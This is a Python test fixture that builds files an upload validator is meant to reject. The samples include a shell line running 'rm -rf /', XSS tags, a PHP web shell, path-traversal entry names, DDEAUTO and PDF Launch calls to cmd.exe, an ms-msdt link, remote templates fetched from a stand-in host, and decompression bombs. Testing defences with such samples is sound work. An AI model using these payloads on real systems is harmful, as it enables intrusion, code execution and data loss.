"""Files that nobody should be able to attach, each wrong in one way."""

import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.files import corpus as make

OWNER = pikepdf.Encryption(owner="owner", user="")
USER = pikepdf.Encryption(owner="owner", user="user")


def wrong() -> dict[str, tuple[str, bytes]]:
    """Return {name: (why it is refused, its bytes)}."""
    archive = make.package({"a.txt": "a"})
    return {
        # Not what they say.
        "nothing": ("empty", b""),
        "a program": ("unknown", b"MZ\x90\0" + bytes(60)),
        "a script": ("unknown", b"#!/bin/sh\nrm -rf /\n"),
        "a page": ("unknown", b"<!doctype html><script>alert(1)</script>"),
        "a drawing": ("unknown", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "a gif": ("unknown", make.picture("GIF", "P")),
        "a web picture": ("unknown", make.picture("WEBP")),
        "a text": ("unknown", b"Only words."),
        "rich text": ("unknown", b"{\\rtf1 Hello}"),
        "an archive": ("unknown", archive),
        "an empty archive": ("unknown", b"PK\x05\x06" + bytes(18)),
        "a program for Java": ("unknown", make.package({"META-INF/MANIFEST.MF": "Main-Class: x"})),
        "an app": ("unknown", make.package({"AndroidManifest.xml": "<x/>", "classes.dex": b"dex"})),
        "an archive in an archive's clothes": (
            "unknown",
            make.package({"mimetype": "application/zip"}, first="mimetype"),
        ),
        "a presentation": (
            "unknown",
            make.package(make.word(kind=make.WORD.replace("wordprocessingml.document", "presentationml.presentation"))),
        ),
        "an OpenDocument sheet": (
            "unknown",
            make.package({**make.odt_parts(), "mimetype": make.ODT.replace("text", "spreadsheet")}, first="mimetype"),
        ),
        "an OpenDocument text whose type is packed": ("unknown", make.package(make.odt_parts())),
        "a template of Word": (
            "unknown",
            make.package(make.word(kind=make.WORD.replace("document.main", "template.main"))),
        ),
        "an old document of Word": ("old_office", make.ole(["WordDocument"])),
        "a document behind a password": ("old_office", make.ole(["EncryptionInfo", "EncryptedPackage"])),
        "the scanners' test": ("virus", make.EICAR),
        "the scanners' test behind a picture": ("virus", make.picture("PNG") + make.EICAR),
        "the scanners' test in a package": ("virus", make.package({**make.word(), "word/media/x.bin": make.EICAR})),
        # Two things at once.
        "a PDF with an archive behind it": ("hidden", make.pdf() + archive),
        "a PDF with a page behind it": ("hidden", make.pdf() + b"<html><script>alert(1)</script>"),
        "a PDF with 4 KB behind it": ("hidden", make.pdf() + b"A" * 4096),
        "a PDF with a page before it": ("unknown", b"<html>" + make.pdf()),
        "a PDF in the words of an archive": ("hidden", make.pdf()[:-6] + archive[:-2] + b"\x07\0\n%%EOF\n"),
        "a picture with an archive behind it": ("hidden", make.picture("PNG") + archive),
        "a JPEG with an archive behind it": ("hidden", make.picture("JPEG") + archive),
        "a JPEG with a page behind it": ("hidden", make.picture("JPEG") + b"<script>alert(1)</script>"),
        "a JPEG with a film behind it": ("hidden", make.picture("JPEG") + b"\0\0\0\x18ftypmp42" + bytes(64)),
        "a JPEG with a page in its comment": ("hidden", make.picture("JPEG", comment=b"<script>alert(1)</script>")),
        "a PNG with a program in its words": ("hidden", make.with_text("<?php system($_GET['c']); ?>")),
        "a package with something before it": ("unknown", make.before(make.package(make.word()), b"GIF89a")),
        "a package with something behind it": ("hidden", make.package(make.word()) + b"\n#!/bin/sh"),
        "a package with words at its end": ("hidden", make.with_comment(make.package(make.word()), b"<script>")),
        "a package with something between": ("hidden", make.with_gap(make.package(make.word()))),
        "an entry with two names": (
            "hidden",
            make.renamed(make.package(make.word()), b"word/document.xml", b"word/documens.xml", only_last=True),
        ),
        # Names that lead elsewhere.
        "a name that climbs": (
            "hidden",
            make.renamed(make.package(make.word(word__aaaaa="x")), b"word/aaaaa", b"../../evil"),
        ),
        "a name from the root": ("hidden", make.package({**make.word(), "/etc/passwd": "x"})),
        "a name with a disk": (
            "hidden",
            make.renamed(make.package(make.word(word__aaaaa="x")), b"word/aaaaa", b"C:/evil.ex"),
        ),
        "two names for one disk": ("hidden", make.package({**make.word(), "WORD/document.xml": "<x/>"})),
        # Damaged.
        "half a PDF": ("damaged", make.pdf()[:200]),
        "a PDF without a page": ("damaged", b"%PDF-1.4\nhello\n%%EOF"),
        "half a PNG": ("damaged", make.picture("PNG", size=(90, 90))[:-20]),
        "a PNG with a wrong sum": ("damaged", make.picture("PNG")[:-6] + b"xx" + make.picture("PNG")[-4:]),
        "half a JPEG": ("damaged", make.picture("JPEG", size=(90, 90))[:-20]),
        "a JPEG without a picture": ("damaged", b"\xff\xd8\xff\xd9"),
        "half a package": ("damaged", make.package(make.word())[:-40]),
        "a package with a wrong sum": (
            "damaged",
            make.package(make.word(), way=zipfile.ZIP_STORED).replace(b"<w:p/>", b"<w:q/>"),
        ),
        "a package with an entity": (
            "damaged",
            make.package(make.word(word__x_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
        ),
        "types in another writing": (
            "damaged",
            make.package({**make.word(), "[Content_Types].xml": make.types().encode("utf-16")}),
        ),
        "an OpenDocument text without its text": (
            "damaged",
            make.package({"mimetype": make.ODT, "META-INF/manifest.xml": make.MANIFEST.format("")}, first="mimetype"),
        ),
        # Locked.
        "a PDF behind a password": ("encrypted", make.pdf(encryption=USER)),
        "a PDF protected against changes": ("encrypted", make.pdf(encryption=OWNER)),
        "a package with a locked entry": ("encrypted", make.flagged(make.package(make.word()), 0x01)),
        "an OpenDocument text behind a password": ("encrypted", make.odt(manifest="<manifest:encryption-data/>")),
        # Programs inside.
        "a PDF with a program": (
            "active",
            make.pdf(make.root(OpenAction=make.action("JavaScript", JS="app.alert(1)"))),
        ),
        "a PDF with a hidden program": (
            "active",
            make.escaped(make.pdf(make.root(OpenAction=make.action("JavaScript", JS="app.alert(1)")))),
        ),
        "a PDF with a program in packed objects": (
            "active",
            make.pdf(
                make.note(Subtype=Name.Link, AA=Dictionary(K=make.action("JavaScript", JS="x"))),
                object_stream_mode=pikepdf.ObjectStreamMode.generate,
            ),
        ),
        "a PDF with named programs": (
            "active",
            make.pdf(make.root(Names=Dictionary(JavaScript=Dictionary(Names=Array([]))))),
        ),
        "a PDF that starts a program": ("active", make.pdf(make.root(OpenAction=make.action("Launch", F="cmd.exe")))),
        "a PDF that sends its form": (
            "active",
            make.pdf(make.note(Subtype=Name.Link, A=make.action("SubmitForm", F="https://x.example"))),
        ),
        "a PDF form of another kind": (
            "active",
            make.pdf(make.root(AcroForm=Dictionary(XFA=Array([]), Fields=Array([])))),
        ),
        "a PDF that plays": ("active", make.pdf(make.note(Subtype=Name.RichMedia))),
        "a PDF with a file inside": ("embedded", make.pdf(make.attach)),
        "a PDF with a file pinned to a page": ("embedded", make.pdf(make.note(Subtype=Name.FileAttachment))),
        "a Word document with macros": (
            "macros",
            make.package(make.word(kind="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ),
        "a Word document with a hidden program": ("macros", make.package(make.word(word__vbaProject_dot_bin=b"x"))),
        "a Word document that points at a program": (
            "macros",
            make.package(make.with_relation(make.relation("vbaProject", "x.bin"))),
        ),
        "a workbook with old macros": ("macros", make.package({**make.excel(), "xl/macrosheets/sheet1.xml": "<x/>"})),
        "an OpenDocument text with macros": ("macros", make.odt(Basic__Standard__Module1_dot_xml="<x/>")),
        "an OpenDocument text that acts": ("macros", make.odt("<script:event-listener/>")),
        "a Word document with a program": (
            "embedded",
            make.package(make.word(word__media__a_dot_png=b"MZ\x90\0 This program cannot be run")),
        ),
        "a Word document with an object": (
            "embedded",
            make.package(make.word(word__embeddings__oleObject1_dot_bin=make.ole(["Package"]))),
        ),
        "a Word document with a page inside": (
            "embedded",
            make.package(make.with_relation(make.relation("aFChunk", "page.htm"))),
        ),
        "a Word document with a PDF inside": (
            "embedded",
            make.package(make.word(word__embeddings__a_dot_bin=make.pdf())),
        ),
        "an archive in a Word document": ("embedded", make.package({**make.word(), "word/media/image1.png": archive})),
        "a workbook with macros behind a chart": (
            "macros",
            make.package(
                {
                    **make.word(),
                    "word/embeddings/a.xlsx": make.package(
                        make.excel(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                    ),
                }
            ),
        ),
        "a workbook in a workbook in a document": (
            "embedded",
            make.package(
                {
                    **make.word(),
                    "word/embeddings/a.xlsx": make.package(
                        {**make.excel(), "xl/embeddings/b.xlsx": make.package(make.excel())}
                    ),
                }
            ),
        ),
        # Fetched from elsewhere.
        "a template from elsewhere": (
            "external",
            make.package(make.with_relation(make.relation("attachedTemplate", "https://x.example/a.dotm", "External"))),
        ),
        "a template from a share": (
            "external",
            make.package(make.with_relation(make.relation("attachedTemplate", "file://server/a.dotx", "External"))),
        ),
        "a picture from elsewhere": (
            "external",
            make.package(make.with_relation(make.relation("image", "http://x.example/a.png", "External"))),
        ),
        "a link that runs": (
            "external",
            make.package(make.with_relation(make.relation("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"))),
        ),
        "a field that starts a program": (
            "external",
            make.package(make.word(make.field("DDEAUTO c:\\\\windows\\\\cmd.exe"))),
        ),
        "a field in pieces": ("external", make.package(make.word(make.field("DD", "EAU", "TO cmd")))),
        "a workbook that asks for data": (
            "external",
            make.package({**make.excel(), "xl/connections.xml": "<connections/>"}),
        ),
        "an OpenDocument picture from elsewhere": (
            "external",
            make.odt('<draw:image xlink:href="http://x.example/a.png"/>'),
        ),
        # Far too much.
        "a picture of 20,000 × 20,000": ("pixels", make.png_of(20_000, 20_000)),
        "a JPEG of 20,000 × 20,000": ("pixels", make.jpeg_of(20_000, 20_000)),
        "words that unpack to 24 MB": ("bomb", make.package(make.word(word__a_dot_xml=b"<a>" + bytes(24 << 20)))),
        "a part larger than it says": (
            "bomb",
            make.shrunk(make.package(make.word(word__a_dot_xml=b"<a>" + b"x" * 900_000)), 1000),
        ),
        "6,000 parts": (
            "bomb",
            make.package({**make.word(), **{f"word/{n}.xml": "" for n in range(6_000)}}, way=zipfile.ZIP_STORED),
        ),
        "a PDF that unpacks to 72 MB": ("damaged", make.unpacking_pdf()),
        "a PDF of 150,000 objects": ("complex", make.many_objects()),
    }
